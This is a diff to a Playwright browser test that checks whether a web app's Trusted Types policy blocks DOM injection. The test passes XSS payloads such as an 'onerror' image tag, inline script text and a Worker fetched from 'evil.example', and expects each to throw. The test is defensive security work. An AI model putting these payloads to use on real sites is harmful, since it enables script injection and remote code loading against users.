@@ -30,6 +30,7 @@ const heading = (page: Page, name: string) => page.getByRole('heading', { level:
 const readToken = (page: Page) => page.evaluate<string | null>("localStorage.getItem('arot-token')");
 
 async function findProduct(page: Page): Promise<void> {
+  await page.locator('.office').waitFor();
   await page.keyboard.press('Control+k');
   await page.getByRole('combobox').fill('miniket');
   await page
@@ -44,6 +45,9 @@ async function expectTrustedTypes(page: Page): Promise<void> {
   const attack = (code: string) => page.evaluate(`(() => { try { ${code} } catch (error) { return error.name } })()`);
   const before = office.errors.length;
   expect(await attack("document.createElement('div').innerHTML = '<img src=x onerror=alert(1)>'")).toBe('TypeError');
+  expect(await attack("return new DOMParser().parseFromString('<p>pasted', 'text/html').body.textContent")).toBe(
+    'pasted',
+  );
   expect(await attack("new Worker('https://evil.example/worker.js')")).toBe('TypeError');
   expect(await attack("document.createElement('script').text = 'alert(1)'")).toBe('TypeError');
   // The browser reports these attempts.
